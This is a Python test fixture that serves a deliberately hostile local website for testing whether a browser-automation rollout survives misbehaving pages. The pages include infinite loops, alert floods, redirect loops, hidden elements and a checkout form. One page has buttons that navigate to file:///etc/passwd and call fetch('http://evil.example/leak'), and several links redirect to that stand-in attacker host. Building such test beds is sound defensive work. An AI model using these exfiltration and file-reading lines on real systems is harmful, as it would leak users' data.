"""A web site on localhost whose pages misbehave in every way that a rollout must survive."""

from __future__ import annotations

import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

from small_site import running_http_server

LATE_SECONDS = 12.0
"""How long the server takes to answer `/late`: longer than any mouse or keyboard action may."""

PAGES = {
    "/": """<h1>Home</h1>
      <a href="/plain">Plain</a> <a href="/busy">Busy</a> <a href="/hang">Hang</a> <a href="/alerts">Alerts</a>
      <a href="/loop">Loop</a> <a href="/gone">Gone</a> <a href="/away">Away</a> <a href="/pay">Pay page</a>
      <a href="/file.zip">Download</a> <a href="/plain" target="_blank">New tab</a>
      <a href="http://evil.example/steal">Outside</a> <a href="/out">Redirect outside</a>
      <a href="/tricks">Tricks</a> <a href="/confirm">Confirm</a> <a href="/slow">Slow</a>
      <a href="/hidden">Hidden</a> <a href="/never">Never quiet</a> <a href="/shadow">Shadow</a> <a href="/vanish">Vanish</a>
      <a href="/frames">Frames</a> <a href="/wait">Wait</a>""",
    "/shadow": """<h1>Shadow</h1><p>Light</p><x-box></x-box><script>
      const root = document.querySelector('x-box').attachShadow({mode: 'open'});
      root.innerHTML = '<form action="/plain"><input aria-label="Inner" name="q"></form><a href="/plain">Deep</a>';
      </script>""",
    "/wait": """<h1>Wait</h1><form action="/late"><input aria-label="Query" name="q"></form>""",
    "/late": "<h1>Late</h1><a href='/'>Home</a>",
    "/frames": """<h1>Frames</h1><a href="/plain">Beside</a><iframe src="/plain" title="Inner"></iframe>
      <x-shut></x-shut><script>
      document.querySelector('x-shut').attachShadow({mode: 'closed'}).innerHTML = '<a href="/pay">Sealed</a>';
      </script>""",
    "/vanish": """<h1>Vanish</h1><button id="v">Fading</button>
      <script>setTimeout(() => v.remove(), 1500)</script>""",
    "/plain": "<h1>Plain</h1><a href='/'>Home</a>",
    "/hang": "<h1>Hang</h1><script>setTimeout(() => { while (true); }, 50)</script>",
    "/alerts": "<h1>Alerts</h1><script>setTimeout(() => { while (true) alert('more'); }, 50)</script>",
    "/confirm": """<h1>Confirm</h1><a href="/plain" onclick="return confirm('Sure?')">Go on</a>
      <script>alert('Welcome')</script>""",
    "/gone": """<h1>Gone</h1><button id="b" onclick="document.title='pressed'">Vanishing</button>
      <button>Staying</button>
      <script>const b = document.getElementById('b');
      addEventListener('mousemove', () => b.remove());</script>
      <div style="position:fixed;inset:0"></div>""",
    "/away": """<h1>Away</h1><button onclick="location='file:///etc/passwd'">File</button>
      <button onclick="location='data:text/html,<h1>data</h1>'">Data</button>
      <button onclick="location='http://evil.example/'">Evil</button>
      <button onclick="fetch('http://evil.example/leak').catch(() => 0)">Leak</button>""",
    "/pay": """<h1>Pay</h1><form method="post" action="/checkout/confirm"><input name="card" aria-label="Card">
      <button>Place your order</button></form><button onclick="location='/plain'">Later</button>""",
    "/tricks": """<h1>Tricks</h1><p data-facsim-visible="false">Seen</p><p style="opacity:1" hidden>Unseen</p>
      <style>.x { display: none }</style><button class="x">Invisible</button><button>Visible</button>
      <script>Element.prototype.remove = () => { throw 1 }; JSON.stringify = () => 'x';</script>""",
    "/hidden": """<h1>Hidden</h1><style>.menu { display: none } .open .menu { display: block }</style>
      <div id="d"><button onclick="d.classList.toggle('open')">Menu</button>
      <div class="menu"><a href="/plain">Inside</a></div></div>
      <p id="t" style="cursor: pointer"><span>Tile</span></p>
      <div id="c" style="cursor: pointer" tabindex="0"><h2>Red shoe</h2><button>Save</button></div>
      <script>t.addEventListener('click', () => location = '/plain');
        c.addEventListener('click', event => { if (event.target.localName != 'button') location = '/plain'; });
      </script>
      <input type="checkbox" aria-label="Agree"><input aria-label="Name" value="old">""",
    "/never": """<h1>Never</h1><a href="/plain">Leave</a><p id="p"></p>
      <script>setInterval(() => { p.textContent = performance.now(); fetch('/plain'); }, 20)</script>""",
}


class HostileSite:
    """The running site, and what was asked of it."""

    def __init__(self, port: int) -> None:
        self.address = f"http://127.0.0.1:{port}"
        self.requests: Counter[str] = Counter()
        self.cookies: Counter[str] = Counter()
        self.on_post: Callable[[], None] | None = None


@contextmanager
def hostile_site() -> Iterator[HostileSite]:
    """The site, open for as long as the block runs."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = urlsplit(self.path).path
            site.requests[f"{self.command} {self.headers['Host']} {path}"] += 1
            site.cookies.update(filter(None, [self.headers["Cookie"]]))
            if self.command == "POST" and site.on_post:
                site.on_post()
            if path == "/late":
                time.sleep(LATE_SECONDS)
            if path == "/loop":
                return self._send(302, b"", {"Location": "/loop"})
            if path == "/out":
                return self._send(302, b"", {"Location": "http://evil.example/redirected"})
            if path == "/file.zip":
                return self._send(200, b"PK", {"Content-Type": "application/zip"})
            if path not in PAGES:
                return self._send(404, b"<h1>Not found</h1><a href='/'>Home</a>")
            self._send(200, f"<!doctype html><html><body>{PAGES[path]}</body></html>".encode())

        do_POST = do_GET

        def _send(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
            self.send_response(status)
            for name, value in {"Content-Type": "text/html; charset=utf-8", **(headers or {})}.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    site = HostileSite(server.server_address[1])
    with running_http_server(server):
        yield site
